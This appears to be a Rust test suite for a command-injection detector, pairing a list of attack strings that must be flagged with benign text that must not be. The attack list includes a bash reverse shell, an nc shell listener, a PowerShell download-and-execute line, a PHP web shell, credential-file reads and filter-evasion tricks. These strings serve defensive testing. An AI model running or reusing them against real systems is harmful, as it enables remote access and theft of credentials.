use super::*;
use crate::detect::test_support;

#[test]
fn detects_command_injection() {
    let attacks: &[&str] = &[
        "; id",
        ";id;",
        "a;id|",
        "| whoami",
        "|| whoami",
        "& whoami",
        "&& whoami",
        "\nid",
        "%0Aid",
        "a%0acat /etc/passwd",
        "`id`",
        "$(whoami)",
        "\"$(id)\"",
        "';id;'",
        "\"|whoami\"",
        "cat /etc/passwd",
        "ping -c 10 127.0.0.1",
        ";ping -n 3 x",
        "ls -l /",
        "nc -lvvp 4444 -e /bin/sh",
        "sleep 5",
        "| sleep 15",
        "id;",
        "/usr/bin/id|",
        "; /bin/sleep 31 ;",
        "cat${IFS}/etc/passwd",
        "cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        "cat</etc/passwd",
        "c'a't /etc/passwd",
        "w'h'o'am'i",
        "c\\at /etc/passwd",
        "who$@ami",
        "/???/c?t /???/p??s??",
        "() { :;}; /bin/bash -c \"id\"",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
        "x | sh",
        "& dir",
        "&& dir C:\\Users",
        "| type c:\\windows\\win.ini",
        "type %SYSTEMROOT%\\repair\\SAM",
        "a|cmd /c whoami",
        "%COMSPEC% /c dir",
        "& powershell -enc SQBFAFgA",
        "& powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"",
        "& reg add HKLM\\Software\\x /v y /f",
        "& net user hacker Password1 /ADD",
        "+|+dir+c:\\+|",
        "system('cat /etc/passwd')",
        "<?php system(\"whoami\");?>",
        "/comments/net view",
        "/cgi-bin/status/; uname -a",
        "https://app.example.net/search?q=%3B+cat+%2Fetc%2Fpasswd",
        "\\n/usr/bin/id\\n",
    ];
    for attack in attacks {
        let hit = cmdi(attack.as_bytes());
        assert!(
            hit.as_ref().is_some_and(|d| d.confidence >= 0.5),
            "missed {attack}"
        );
    }
}

#[test]
fn passes_prose_and_ordinary_values() {
    let benign: &[&str] = &[
        "I cat my dog",
        "ping me later",
        "rock & roll",
        "Tom & Jerry; id est laborum",
        "salt & pepper",
        "more or less",
        "sleep well, my lord; sleep",
        "type your name",
        "find us at / on the map",
        "O'Reilly & Sons",
        "select a size",
        "1 or 2 items",
        ":-) ;-) :-| <3",
        "What, ho! apothecary!\nsleep, sleep",
        "Go, get thee hence\nfind him out",
        "Peace shall go sleep with Turks and infidels",
        "Who's there? & more",
        "ls",
        "id",
        "whoami",
        "the bin/cat is full",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
        "id;q=0.8",
        "id-ID,id;q=0.9,en;q=0.8",
        "curl/7.29.0",
        "Wget/1.13.4 (linux-gnu)",
        "C:\\fakepath\\photo.jpg",
        "calle manuel de falla, 65 5?a",
        "c/ el breton, 187",
        "/tienda1/publico/pagar.jsp",
        "/blog/geekery/ssl-latency.html",
        "http://www.google.com/search?q=cat+videos&ie=UTF-8",
        "R&D; net profit",
        "AT&T | Verizon",
        "x-model-3000 (new!)",
        "Enter your user (id)",
        "<svg id=alert(1) onload=eval(id)>",
        "",
    ];
    for value in benign {
        assert!(cmdi(value.as_bytes()).is_none(), "fired on {value}");
    }
}

#[test]
fn reports_how_the_command_was_reached() {
    let cases: &[(&str, &str)] = &[
        ("; id", "chain:id"),
        ("`id`", "subst:id"),
        ("cat /etc/passwd", "line:cat"),
        ("w'h'o'am'i", "obfuscated:whoami"),
        ("system('id')", "call:id"),
    ];
    for (input, fingerprint) in cases {
        let hit = cmdi(input.as_bytes()).expect("a command");
        assert_eq!(hit.fingerprint, *fingerprint, "{input}");
    }
}

#[test]
fn never_panics_on_hostile_input() {
    let all: Vec<u8> = (0..=255u8).collect();
    let fixed: Vec<Vec<u8>> = vec![
        all,
        b"'".repeat(1 << 20),
        b"\"".repeat(100_000),
        b"$(".repeat(100_000),
        b"`".repeat(100_000),
        b"{".repeat(100_000),
        b";".repeat(100_000),
        b"; id".repeat(20_000),
        b"\\".repeat(100_000),
        b"$".to_vec(),
        b"${IF".to_vec(),
        b"system(".to_vec(),
        b"system('".to_vec(),
    ];
    for input in &fixed {
        test_support::assert_bounded(cmdi, input);
    }
    test_support::assert_random_bounded(
        cmdi,
        b" ;|&`$(){},'\"\\\n<>#%0aidcatls/etc-IFS@+\xff",
        0x9e37_79b9_7f4a_7c15,
        4000,
        67,
    );
}
